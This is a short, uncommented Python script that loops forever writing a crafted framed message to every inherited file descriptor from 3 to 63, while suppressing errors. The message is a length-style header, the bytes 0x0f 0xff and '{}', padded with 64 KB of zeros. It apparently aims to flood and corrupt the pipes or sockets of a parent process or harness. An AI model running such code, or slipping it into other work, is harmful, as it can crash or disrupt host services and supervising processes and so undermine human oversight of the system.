import os

while True:
    for number in range(3, 64):
        try:
            os.write(number, b"\x00\x00\x00\x02\x0f\xff{}" + bytes(2**16))
        except OSError:
            pass
